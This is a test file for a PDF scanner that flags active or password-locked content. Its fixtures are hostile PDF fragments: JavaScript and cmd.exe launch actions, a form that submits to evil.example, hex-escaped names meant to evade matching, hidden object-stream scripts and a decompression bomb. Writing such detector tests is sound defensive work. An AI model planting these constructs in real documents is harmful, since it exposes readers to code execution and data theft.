import { buffer } from 'node:stream/consumers';
import { deflateSync } from 'node:zlib';
import PDFDocument from 'pdfkit';
import { drawDocument } from '../pdf/draw-document.js';
import { encryptedPdfs } from '../../testing/encrypted-pdfs.js';
import { pdfObjection } from './active-pdf.js';

const pdf = (...objects: readonly (string | Buffer)[]): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...objects.map((object) => Buffer.from(object)), Buffer.from('\n%%EOF')]);

/** An object stream with objects in it, as the newer format of PDF packs them. */
function packed(objects: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer {
  const body = deflateSync(objects);
  const head = Buffer.from(`1 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\r\n`);
  return Buffer.concat([head, body, Buffer.from('\nendstream\nendobj\n')]);
}

const script = '2 0 << /S /JavaScript /JS (app.alert(1)) >>';

it.each([
  ['a script', pdf(`1 0 obj ${script} endobj`)],
  ['a script whose name is written in digits', pdf('1 0 obj << /S /#4aavaScr#69p#74 /JS (x) >> endobj')],
  ['a program to start', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj')],
  ['a file in it', pdf('1 0 obj << /Type /EmbeddedFile >> endobj')],
  ['a form that sends itself', pdf('1 0 obj << /S/SubmitForm/F(https://evil.example) >> endobj')],
  ['a script in packed objects', pdf(packed(script))],
  ['a script in packed objects without their type', pdf(packed(script, '/N 1 /First 4 /Filter/FlateDecode'))],
  ['objects packed in an unusual way', pdf(packed('x', '/Type /ObjStm /Filter [/LZWDecode /FlateDecode]'))],
  ['objects packed with a predictor', pdf(packed('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << >>'))],
  ['objects that cannot be unpacked', pdf('1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\nxxxx\nendstream')],
  ['more streams than a document has', pdf(' /First stream\n'.repeat(30_000))],
  ['objects that unpack without end', pdf(packed('x'.repeat(17 * 1024 * 1024)))],
])('E19: finds %s', (_, content) => {
  expect(pdfObjection(content)).toBe('active');
});

it.each([
  ['packed objects', pdf(packed('2 0 << /Type /Page >>'))],
  ['an action that opens a page', pdf('1 0 obj << /OpenAction [3 0 R /Fit] >> endobj')],
  ['words in its text', pdf('1 0 obj (JavaScript, Launch and EmbeddedFile) endobj')],
  ['names that only begin so', pdf('1 0 obj << /LaunchPad 1 /JavaScripts 2 >> endobj')],
])('E19: lets a document with %s pass', (_, content) => {
  expect(pdfObjection(content)).toBeUndefined();
});

it('E19: lets a document pass as the bank itself draws it', async () => {
  const blocks = [{ kind: 'paragraph', text: 'Balance: 1' }] as const;
  expect(pdfObjection(await drawDocument({ title: 'Statement', language: 'en', blocks }))).toBeUndefined();
});

const expectedOf = (name: string) => (/^(?:script|locked)/.test(name) ? name.replace(/-.*/, '') : undefined);

it.each(Object.entries(encryptedPdfs))('looks into %s, which is encrypted, as if it were not', (name, content) => {
  const expected = expectedOf(name) === 'script' ? 'active' : expectedOf(name);
  expect(pdfObjection(Buffer.from(content, 'base64'))).toBe(expected);
});

it.each([['1.3'], ['1.4'], ['1.6'], ['1.7ext3']] as const)(
  'takes a PDF %s of which the owner alone has a password, and refuses one of its reader',
  async (pdfVersion) => {
    const write = async (passwords: object): Promise<Buffer> => {
      const document = new PDFDocument({ pdfVersion, ...passwords });
      document.text('Salary: 2 800').end();
      return buffer(document);
    };
    expect(pdfObjection(await write({ ownerPassword: 'office' }))).toBeUndefined();
    expect(pdfObjection(await write({ ownerPassword: 'office', userPassword: 'reader' }))).toBe('locked');
  },
);

const rewritten = (name: string, change: (text: string) => string): Buffer =>
  Buffer.from(change(Buffer.from(encryptedPdfs[name] ?? '', 'base64').toString('latin1')), 'latin1');

it.each([
  ['the encryption of another maker', 'locked', rewritten('base-r6', (text) => text.replace('/Standard', '/Acme.Sec'))],
  ['terms that are not there', 'locked', pdf('trailer << /Encrypt 5 0 R >>')],
  ['terms of two kinds', 'locked', rewritten('base-r6', (text) => `${text} /Encrypt 9 0 R`)],
  [
    'a name of encryption in digits',
    'locked',
    rewritten('base-r6', (text) => text.replace('/Encrypt 5', '/#45ncrypt 5')),
  ],
  [
    'a stream that says it is shorter',
    'active',
    rewritten('base-r6', (text) => text.replace('/Length 112', '/Length 40')),
  ],
])('does not take a PDF with %s', (_, expected, content) => {
  expect(pdfObjection(content)).toBe(expected);
});
